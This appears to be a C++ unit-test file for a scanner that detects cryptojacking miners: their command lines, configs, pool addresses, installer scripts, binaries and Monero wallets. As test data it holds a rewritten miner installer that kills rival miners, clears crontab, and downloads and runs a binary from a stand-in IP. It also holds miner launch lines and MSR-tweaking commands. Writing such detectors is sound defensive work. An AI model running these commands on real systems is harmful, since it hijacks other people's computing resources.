// Miners: command lines, configurations, pools, scripts, programs, wallets. All wallets here are of
// Monero's test networks.
#include <gtest/gtest.h>

#include "base/text.h"
#include "detect/detector_test_support.h"
#include "detect/elf_sample_test_support.h"
#include "detect/incident_data_support.h"
#include "detect/miner_support.h"

namespace lazaret::detect {

extern const Detector miner_command_line_detector;
extern const Detector miner_config_detector;
extern const Detector miner_pool_detector;
extern const Detector miner_program_detector;
extern const Detector miner_script_detector;
extern const Detector wallet_detector;

namespace {

using test::inspect;
using Ids = std::vector<std::string>;

// An address of the test network that nobody uses.
const std::string wallet =
    "9ztAF7kEkbj5iE6tXQ37Wb9M28ctpA9FCbjyozBNYfrZbewmKZHhfkw5Y5G2TuxDqPQ3QeQjnDPnEfnRvcUsG8d2C7gemz"
    "4";

// A real pool's name, taken from the data so that it stands in rules/ only.
std::string known_pool() {
  return "pool." + incident_data().pool_domains.back();
}

test::Outcome command(std::string content, std::string path = "/run.sh",
                      Origin origin = Origin::file) {
  return inspect(miner_command_line_detector,
                 {.path = std::move(path), .content = std::move(content), .origin = origin});
}
test::Outcome script(const std::string& line) {
  return command("#!/bin/sh\n" + line + "\n");
}

TEST(MinerSupport, PoolAddresses) {
  const auto text = [](std::string_view word) {
    const auto pool = parse_pool_address(word);
    return pool ? pool->text() + (pool->mining_scheme ? " mining" : "") : std::string();
  };
  EXPECT_EQ(text("stratum+tcp://Pool.Example:3333"), "pool.example:3333 mining");
  EXPECT_EQ(text("stratum+ssl://localhost:3333/worker"), "localhost:3333 mining");
  EXPECT_EQ(text("daemon+http://192.0.2.1:18081"), "192.0.2.1:18081 mining");
  EXPECT_EQ(text("pool.example:3333"), "pool.example:3333");
  EXPECT_EQ(text("ssl://pool.example:443"), "pool.example:443");
  for (const char* word : {"http://pool.example:80", "pool:3333", "pool.example", "pool.example:0",
                           "pool.example:99999", "a..b:3333", "pool.example:3333/x", "12:30",
                           ":3333", "", "stratum+tcp://", "stratum+tcp://%s:%d"})
    EXPECT_EQ(text(word), "") << word;
  const auto with_login = parse_pool_address("stratum1+tcp://0xabc.rig@pool.example:4444");
  ASSERT_TRUE(with_login);
  EXPECT_EQ(with_login->login, "0xabc.rig");
  EXPECT_TRUE(parse_pool_address(known_pool() + ":3333")->known_pool);
}

TEST(MinerCommandLine, The2018EntrypointOfAnImageNamedNginx) {
  const auto outcome = command(
      "./xmrig --algo=cryptonight --url=stratum+tcp://pool.example:5555 "
      "--user=" +
          wallet + " --pass=x --max-cpu-usage=100",
      "config.Entrypoint", Origin::config);
  ASSERT_EQ(outcome.rules(), Ids{"miner.command-line"});
  EXPECT_EQ(test::severity_of(outcome.findings[0]), Severity::critical);
  EXPECT_TRUE(outcome.has_indicator("pool", "pool.example:5555"));
  EXPECT_TRUE(outcome.has_indicator("wallet.monero", wallet));
}

TEST(MinerCommandLine, AccountInsteadOfAWallet) {
  const auto outcome =
      script("/darwin -o us-east.pool.example:20580 -u somebody.doc -p x --currency monero");
  ASSERT_EQ(outcome.rules(), Ids{"miner.command-line"});
  EXPECT_TRUE(outcome.has_indicator("login", "somebody.doc"));
  EXPECT_EQ(script("/darwin -o us-east.pool.example:20580 -u somebody.doc -p x").rules(),
            Ids{"miner.command-line"})
      << "the bare shape stands on its own";
}

TEST(MinerCommandLine, WorkerBehindTheWalletIsKept) {
  const auto outcome = script("./app -a rx/0 -o pool.example:1123 -u " + wallet + ".gas1 -p x");
  ASSERT_EQ(outcome.rules(), Ids{"miner.command-line"});
  EXPECT_TRUE(outcome.has_indicator("wallet.monero", wallet));
  EXPECT_TRUE(outcome.has_indicator("login", wallet + ".gas1"));
}

TEST(MinerCommandLine, OtherLanguagesAndListForms) {
  EXPECT_EQ(command("#!/usr/bin/python3\nsubprocess.Popen(['./nodjs', '-o', 'pool.example:3333', "
                    "'-u', '" +
                        wallet + "', '-p', 'x'])\n",
                    "/dao.py")
                .rules(),
            Ids{"miner.command-line"});
  EXPECT_EQ(command("#!/usr/bin/python3\nargs = [\n  './nodjs',\n  '-o',\n  'pool.example:3333',\n"
                    "  '-u',\n  '" +
                        wallet + "',\n  '-p',\n  'x',\n]\n",
                    "/dao.py")
                .rules(),
            Ids{"miner.command-line"});
  EXPECT_EQ(command("spec:\n  containers:\n  - args:\n    - --url=stratum+tcp://pool.example:3333\n"
                    "    - --user=" +
                        wallet + "\n    - --donate-level=1\n",
                    "/pod.yaml")
                .rules(),
            Ids{"miner.command-line"});
  EXPECT_EQ(script("./a \\\n  -o pool.example:3333 \\\n  -u " + wallet + " \\\n  -p x").rules(),
            Ids{"miner.command-line"});
  EXPECT_EQ(script("ethminer -P stratum1+tcp://" + wallet + ".rig@pool.example:4444").rules(),
            Ids{"miner.command-line"});
}

TEST(MinerCommandLine, ValuesInVariables) {
  EXPECT_EQ(script("POOL=pool.example:3333\nWALLET=\"" + wallet +
                   "\"\nnohup ./java -o $POOL -u ${WALLET} -p x >/dev/null &")
                .rules(),
            Ids{"miner.command-line"});
  EXPECT_EQ(script("HOST=pool.example\n./java -o ${HOST}:3333 -u " + wallet + " -p x").rules(),
            Ids{"miner.command-line"});
}

TEST(MinerCommandLine, QuotingDoesNotHideIt) {
  EXPECT_EQ(script("./java '-'o po''ol.example:33\"\"33 -\\u " + wallet + " \\-p $'\\x78'").rules(),
            Ids{"miner.command-line"});
}

TEST(MinerCommandLine, InsideAnExecutable) {
  test::ElfSample elf;
  elf.type = 2;
  elf.data = "/tmp/a -o pool.example:3333 -u " + wallet + " -p x" + std::string(1, '\0');
  EXPECT_EQ(command(elf.build(), "/usr/bin/updater").rules(), Ids{"miner.command-line"});
}

TEST(MinerCommandLine, OptionsAloneAreHigh) {
  const auto outcome = script("./app --donate-level 1 --cpu-max-threads-hint=50");
  ASSERT_EQ(outcome.rules(), Ids{"miner.options"});
  EXPECT_EQ(test::severity_of(outcome.findings[0]), Severity::high);
}

TEST(MinerCommandLine, InnocentCommands) {
  for (const char* line :
       {"curl -o out.tar.gz -u user:password https://www.example/x", "ssh -p x -o Port=22 host",
        "mysql -u root -p x -h db.example:3306", "docker run -p 8080:80 -u 1000 nginx.example:80",
        "mount -o addr=192.0.2.1:2049 -u x", "tar -a rx/0", "curl -o /tmp/x pool.example:3333",
        "psql -o out.example:3333", "make --algo=x --coin=heads", "echo stratum+tcp://",
        "rsync --url=www.example:8730 --user=backup", "ffmpeg -a cn -u x"})
    EXPECT_EQ(script(line).rules(), Ids{}) << line;
}

TEST(MinerCommandLine, DetectionRulesAndHelpAreNothing) {
  EXPECT_EQ(command("title: miner\ndetection:\n  selection:\n    CommandLine|contains:\n"
                    "      - '--donate-level=0'\n      - '--nicehash'\n      - ' -o pool.'\n"
                    "      - 'stratum+tcp://'\n      - '--algo=rx/0'\n",
                    "/rules/miner.yml")
                .rules(),
            Ids{});
  EXPECT_EQ(script("grep -e '--donate-level' -e 'stratum+tcp://' /proc/*/cmdline").rules(), Ids{});
  test::ElfSample elf;
  elf.data =
      "  -o, --url=URL  URL of mining server\n  --donate-level=N  donate level\n --rig-id=ID\n";
  EXPECT_EQ(command(elf.build(), "/usr/bin/x").rules(), Ids{});
}

TEST(MinerCommandLine, DocumentationIsLow) {
  const auto outcome = command("Run `./xmrig -o pool.example:3333 -u " + wallet + " -p x`.\n",
                               "/usr/share/doc/xmrig/README.md");
  for (const FileFinding& finding : outcome.findings)
    EXPECT_EQ(test::severity_of(finding), Severity::low);
  EXPECT_EQ(
      command("XMRig is a miner; its option --donate-level is described below.\n", "/srv/notes.txt")
          .rules(),
      Ids{});
}

test::Outcome config(std::string content, std::string path = "/etc/config.json") {
  return inspect(miner_config_detector, {.path = std::move(path), .content = std::move(content)});
}

TEST(MinerCommandLine, AMatchThatEndsWithTheLineEndOfAnotherLanguage) {
  EXPECT_EQ(command("#!/usr/bin/python3\nx = '-p', 'x'\n", "/a.py").rules(), Ids{});
  EXPECT_EQ(
      command("#!/usr/bin/python3\nx = \"./a -o pool.example:3333 -u me -p x\n", "/a.py").rules(),
      Ids{"miner.command-line"});
}

TEST(MinerConfig, XmrigWithComments) {
  const auto outcome = config(
      "{\n  \"algo\": \"cryptonight\", // cryptonight (default)\n  \"av\": 0,\n"
      "  /* all cores */ \"max-cpu-usage\": 95,\n  \"donate-level\": 1,\n  \"pools\": [\n"
      "    {\"url\": \"pool.example:3333\", \"user\": \"" +
      wallet + "\", \"pass\": \"x\", \"nicehash\": false,},\n  ]\n}\n");
  ASSERT_EQ(outcome.rules(), Ids{"miner.config"});
  EXPECT_EQ(test::severity_of(outcome.findings[0]), Severity::critical);
  EXPECT_TRUE(outcome.has_indicator("pool", "pool.example:3333"));
  EXPECT_TRUE(outcome.has_indicator("wallet.monero", wallet));
}

TEST(MinerConfig, TheSmallestThatWorks) {
  EXPECT_EQ(
      config("{\"pools\":[{\"url\":\"pool.example:3333\",\"user\":\"" + wallet + "\"}]}").rules(),
      Ids{"miner.config"});
  EXPECT_EQ(config("{\"pools\":[{\"url\":\"" + known_pool() + ":443\",\"user\":\"me\"}]}").rules(),
            Ids{"miner.config"});
}

TEST(MinerConfig, XmrStakWithoutBraces) {
  EXPECT_EQ(config("\"pool_list\" :\n[\n\t{\"pool_address\" : \"pool.example:3333\", "
                   "\"wallet_address\" : \"somebody.doc\", \"rig_id\" : \"\", \"pool_password\" : "
                   "\"x\", \"use_nicehash\" : false, \"pool_weight\" : 1 },\n],\n"
                   "\"currency\" : \"monero\",\n",
                   "/pools.txt")
                .rules(),
            Ids{"miner.config"});
}

TEST(MinerConfig, HereDocumentEscapedAndEmbedded) {
  EXPECT_EQ(config("#!/bin/sh\ncat > /tmp/c.json <<E\n{\"pools\":[{\"url\":\"pool.example:3333\","
                   "\"user\":\"" +
                       wallet + "\"}],\"donate-level\":0}\nE\n",
                   "/run.sh")
                .rules(),
            Ids{"miner.config"});
  EXPECT_EQ(config("#!/bin/sh\necho \"{\\\"pools\\\":[{\\\"url\\\":\\\"pool.example:3333\\\","
                   "\\\"user\\\":\\\"" +
                       wallet + "\\\"}]}\" > c.json\n",
                   "/run.sh")
                .rules(),
            Ids{"miner.config"});
  test::ElfSample elf;
  elf.data = std::string(1, '\0') +
             "{\"donate-level\":0,\"pools\":[{\"url\":\"pool.example:3333\","
             "\"user\":\"" +
             wallet + "\"}]}" + std::string(1, '\0');
  EXPECT_EQ(config(elf.build(), "/usr/bin/java").rules(), Ids{"miner.config"});
}

TEST(MinerConfig, TemplateWithoutLogin) {
  EXPECT_EQ(config("{\"randomx\":{\"1gb-pages\":false,\"rdmsr\":true,\"wrmsr\":true},"
                   "\"donate-level\":1,\"pools\":[{\"url\":\"pool.example:3333\",\"user\":"
                   "\"YOUR_WALLET_ADDRESS\",\"rig-id\":null,\"nicehash\":false}]}")
                .rules(),
            Ids{"miner.config-template"});
}

TEST(MinerConfig, InnocentJson) {
  EXPECT_EQ(
      config("{\"pools\":[{\"url\":\"db.example:5432\",\"user\":\"app\",\"pass\":\"x\"}]}").rules(),
      Ids{});
  EXPECT_EQ(config("{\"pools\":[{\"name\":\"rbd\",\"size\":3}],\"algo\":\"straw2\"}").rules(),
            Ids{});
  EXPECT_EQ(config("{\"url\":\"smtp.example:587\",\"user\":\"a@b.example\",\"tls\":true,"
                   "\"keepalive\":true,\"retries\":5}")
                .rules(),
            Ids{});
  EXPECT_EQ(config("{\"words\":[\"donate-level\",\"pools\",\"nicehash\"]}").rules(), Ids{});
  EXPECT_EQ(
      config("{\"wallet_address\":\"" + wallet + "\",\"shop\":\"https://www.example\"}").rules(),
      Ids{});
}

TEST(MinerConfig, EveryPrefixIsReadWithoutHarm) {
  const std::string whole =
      "{\"donate-level\":1,\"pools\":[{\"url\":\"pool.example:3333\",\"user\":\"" + wallet +
      "\",\"pass\":\"x\"}]}";
  for (std::size_t size = 0; size <= whole.size(); ++size) config(whole.substr(0, size));
  config(std::string(100'000, '{') + "donate-level");
  config("\"donate-level\"" + std::string(100'000, '['));
}

test::Outcome pool(std::string content, std::string path = "/run.sh",
                   Origin origin = Origin::file) {
  return inspect(miner_pool_detector,
                 {.path = std::move(path), .content = std::move(content), .origin = origin});
}

TEST(MinerPool, FindingInWhatRunsIndicatorElsewhere) {
  EXPECT_EQ(pool("#!/bin/sh\nPOOL=stratum+tcp://pool.example:3333\n").rules(),
            Ids{"miner.pool-address"});
  EXPECT_EQ(pool(known_pool() + ":3333", "config.Env.POOL", Origin::environment).rules(),
            Ids{"miner.pool-address"});
  const auto settings = pool("pool = " + known_pool() + ":3333\n", "/etc/x.cfg");
  EXPECT_EQ(settings.rules(), Ids{});
  EXPECT_TRUE(settings.has_indicator("pool", known_pool() + ":3333"));
}

TEST(MinerPool, ListsProseAndWebSitesAreNothing) {
  std::string list = "#!/usr/bin/python3\nPOOLS = [\n";
  for (const std::string& domain : incident_data().pool_domains) list += "'" + domain + ":3333',\n";
  EXPECT_TRUE(pool(list + "]\n", "/x.py").findings.empty());
  EXPECT_TRUE(pool(list + "]\n", "/x.py").indicators.empty());
  EXPECT_TRUE(pool("#!/bin/sh\ncurl https://" + known_pool() + "/api\n").findings.empty());
  EXPECT_TRUE(pool("#!/bin/sh\n# " + known_pool() + ":3333\n").findings.empty());
  EXPECT_TRUE(pool("see " + known_pool() + ":3333\n", "/README.md").indicators.empty());
  EXPECT_TRUE(
      pool("#!/bin/sh\nX=my" + incident_data().pool_domains.back() + ":3333\n").findings.empty());
}

Ids miner_script(std::string content, std::string path = "/run.sh") {
  return inspect(miner_script_detector, {.path = std::move(path), .content = std::move(content)})
      .rules();
}

// After logo3.jpg of 2018, rewritten and inert.
const std::string installer =
    "ps auxf|grep -v grep|grep \"stratum\"|awk '{print $2}'|xargs kill -9\n"
    "ps auxf|grep -v grep|grep cryptonight|awk '{print $2}'|xargs kill -9\n"
    "crontab -r || true\n"
    "curl -o /var/tmp/abcd http://192.0.2.10:8220/gcc\n"
    "chmod 777 /var/tmp/abcd\n"
    "/sbin/sysctl -w vm.nr_hugepages=128\n"
    "nohup /var/tmp/abcd -c config.json -t `nproc` >/dev/null &\n";

TEST(MinerScript, InstallerOf2018) {
  EXPECT_EQ(miner_script("#!/bin/bash\n" + installer), Ids{"miner.installer"});
  EXPECT_EQ(miner_script(installer, "/logo3.jpg"), Ids{"miner.installer"})
      << "without an interpreter line, by an image's name";
}

TEST(MinerScript, QuotingDoesNotHideIt) {
  EXPECT_EQ(miner_script("#!/bin/sh\npk''ill -9 xm''rig\np\\kill -f 'min''erd'\n"),
            Ids{"miner.rival-killer"});
}

TEST(MinerScript, StepsAlone) {
  EXPECT_EQ(miner_script("#!/bin/sh\npkill -9 xmrig\nkillall minerd\n"), Ids{"miner.rival-killer"});
  EXPECT_EQ(miner_script("#!/bin/sh\nsysctl -w vm.nr_hugepages=1024\nexec postgres\n"),
            Ids{"miner.huge-pages"});
  EXPECT_EQ(miner_script("#!/bin/sh\nmodprobe msr allow_writes=on\nwrmsr -a 0x1a4 0xf\n"),
            Ids{"miner.msr-access"});
}

TEST(MinerScript, InnocentScripts) {
  EXPECT_EQ(miner_script("#!/bin/sh\npkill -9 nginx\nps aux | grep java | xargs kill -9\n"), Ids{});
  EXPECT_EQ(miner_script("#!/bin/sh\ncurl -o /tmp/x https://www.example/x\nchmod +x /tmp/x\n"
                         "nohup /tmp/x &\npkill -9 old\n"),
            Ids{});
  EXPECT_EQ(miner_script("The script runs pkill xmrig, then killall minerd.\n", "/a/README.md"),
            Ids{});
  EXPECT_EQ(miner_script("#!/bin/sh\n# pkill xmrig\n# pkill minerd\n"), Ids{});
  EXPECT_EQ(miner_script("#!/bin/sh\ncat /proc/sys/vm/nr_hugepages\nkillall x\n"), Ids{});
}

// The first two AES generator keys of RandomX in the order of the specification, masked so that
// this program does not contain them.
std::string masked(std::initializer_list<unsigned> bytes) {
  std::string text;
  for (const unsigned byte : bytes) text += static_cast<char>(byte ^ 0xff);
  return text;
}
std::string key0() {
  return masked({0xac, 0x5a, 0x53, 0x92, 0xf6, 0x99, 0x8e, 0x9d, 0xd4, 0xaa, 0x4a, 0x24, 0xe8, 0xb6,
                 0x0b, 0x4b});
}
std::string key1() {
  return masked({0xf8, 0x50, 0x83, 0x92, 0xf2, 0x8e, 0x95, 0x7b, 0x87, 0x2c, 0xda, 0xe8, 0xb1, 0x23,
                 0x5e, 0xf2});
}

test::Outcome program(const std::string& data, std::string path = "/usr/sbin/httpd") {
  test::ElfSample elf;
  elf.type = 2;
  elf.data = std::string(64, '\x90') + data + std::string(64, '\x90');
  return inspect(miner_program_detector, {.path = std::move(path), .content = elf.build()});
}

TEST(MinerProgram, KeysOfTheSpecification) {
  EXPECT_EQ(to_hex(as_bytes(key0())), "53a5ac6d096671622b55b5db1749f4b4");
  EXPECT_EQ(to_hex(as_bytes(key1())), "07af7c6d0d716a8478d325174edca10d");
}

TEST(MinerProgram, AlgorithmAloneIsACapability) {
  const auto outcome = program(key0() + key1(), "/usr/bin/monerod");
  ASSERT_EQ(outcome.rules(), Ids{"miner.algorithm"});
  EXPECT_EQ(test::severity_of(outcome.findings[0]), Severity::high);
}

TEST(MinerProgram, OtherLayouts) {
  const auto word = [](const std::string& key, std::size_t i) { return key.substr(4 * i, 4); };
  const auto reversed = [](std::string text) {
    std::reverse(text.begin(), text.end());
    return text;
  };
  const std::string key = key0();
  EXPECT_EQ(program(word(key, 3) + word(key, 2) + word(key, 1) + word(key, 0)).rules(),
            Ids{"miner.algorithm"})
      << "a table written as the source's macros";
  std::string immediates;
  for (std::size_t i = 0; i < 4; ++i)
    immediates += "\xc7\x45" + std::string(1, static_cast<char>(0xd0 + 4 * i)) + word(key, i);
  EXPECT_EQ(program(immediates).rules(), Ids{"miner.algorithm"}) << "mov dword [rbp-n], imm32";
  EXPECT_EQ(program("\x48\xb8" + word(key, 0) + word(key, 1) + "\x48\x89\x04\x24\x48\xb8" +
                    word(key, 2) + word(key, 3))
                .rules(),
            Ids{"miner.algorithm"})
      << "movabs";
  EXPECT_EQ(program(reversed(word(key, 0)) + reversed(word(key, 1)) + reversed(word(key, 2)) +
                    reversed(word(key, 3)))
                .rules(),
            Ids{"miner.algorithm"})
      << "big-endian words";
}

TEST(MinerProgram, AlgorithmFromALibrary) {
  test::ElfSample elf;
  elf.imports = {"randomx_calculate_hash"};
  elf.data = "stratum+tcp://" + std::string(1, '\0') + "donate-level";
  const auto look = [&] {
    return inspect(miner_program_detector, {.path = "/usr/sbin/httpd", .content = elf.build()})
        .rules();
  };
  EXPECT_EQ(look(), Ids{"miner.program"});
  elf.data.clear();
  EXPECT_EQ(look(), Ids{"miner.algorithm"});
  elf.imports.clear();
  elf.data = "randomx_calculate_hash";
  EXPECT_EQ(look(), Ids{}) << "the name alone is a mention";
}

TEST(MinerProgram, WordsFarApartAreChance) {
  const std::string key = key0();
  std::string far;
  for (std::size_t i = 0; i < 4; ++i) far += key.substr(4 * i, 4) + std::string(300, '\x90');
  EXPECT_EQ(program(far).rules(), Ids{});
  EXPECT_EQ(program(key.substr(0, 12)).rules(), Ids{});
}

TEST(MinerProgram, RenamedMinerIsCriticalDeclaredOneHigh) {
  const std::string client = "stratum+tcp://" + std::string(1, '\0') + "donate-level";
  const auto renamed = program(key0() + key1() + client, "/usr/sbin/httpd");
  ASSERT_EQ(renamed.rules(), Ids{"miner.program"});
  EXPECT_EQ(test::severity_of(renamed.findings[0]), Severity::critical);
  const auto declared = program(key0() + key1() + client, "/opt/xmrig/xmrig");
  ASSERT_EQ(declared.rules(), Ids{"miner.program"});
  EXPECT_EQ(test::severity_of(declared.findings[0]), Severity::high);
}

TEST(MinerProgram, WalletInside) {
  const auto outcome = program(key0() + "stratum+tcp://" + std::string(1, '\0') + "rx/0" +
                                   std::string(1, '\0') + wallet + std::string(1, '\0'),
                               "/opt/xmrig/xmrig");
  ASSERT_EQ(outcome.rules(), Ids{"miner.program"});
  EXPECT_EQ(test::severity_of(outcome.findings[0]), Severity::critical);
  EXPECT_TRUE(outcome.has_indicator("wallet.monero", wallet));
}

TEST(MinerProgram, ProtocolWithoutRandomX) {
  EXPECT_EQ(program("mining.subscribe mining.authorize mining.submit kawpow nicehash").rules(),
            Ids{"miner.pool-protocol"});
  EXPECT_EQ(program("mining.subscribe").rules(), Ids{});
  EXPECT_EQ(program("keepalived stratum+tcp://").rules(), Ids{});
}

TEST(Wallet, IndicatorOnly) {
  const auto look = [](std::string content, std::string path = "/a.txt",
                       Origin origin = Origin::file) {
    return inspect(wallet_detector,
                   {.path = std::move(path), .content = std::move(content), .origin = origin});
  };
  const auto outcome = look("donate to " + wallet + ".\n");
  EXPECT_TRUE(outcome.findings.empty());
  ASSERT_EQ(outcome.indicators.size(), 1u);
  EXPECT_EQ(outcome.indicators[0].first, (Indicator{"wallet.monero", wallet, true}));
  EXPECT_EQ(outcome.indicators[0].second, 10u);

  std::string wrong = wallet;
  wrong[40] = wrong[40] == 'a' ? 'b' : 'a';
  EXPECT_TRUE(look("donate to " + wrong + ".\n").indicators.empty());
  EXPECT_TRUE(look(wallet.substr(0, 94)).indicators.empty());
  EXPECT_EQ(look(wallet).indicators.size(), 1u) << "the whole file";
  EXPECT_TRUE(look("donate to " + wallet, "/usr/share/doc/x/README").indicators.empty());
  for (const std::string& stopped : incident_data().wallet_stop_list)
    EXPECT_TRUE(look("x " + stopped + " y").indicators.empty()) << stopped;

  const auto environment = look(wallet, "config.Env.WALLET", Origin::environment);
  EXPECT_EQ(environment.rules(), Ids{"miner.wallet-in-settings"});
}

TEST(Wallet, FoundAtEveryOffset) {
  for (std::size_t before = 0; before < 60; ++before) {
    for (const char filler : {' ', 'a'}) {
      const std::string text = std::string(before, filler) + " " + wallet + "\n";
      const auto outcome = inspect(wallet_detector, {.path = "/a.txt", .content = text});
      ASSERT_EQ(outcome.indicators.size(), 1u) << before << filler;
      EXPECT_EQ(outcome.indicators[0].second, before + 1);
    }
  }
}

}  // namespace
}  // namespace lazaret::detect
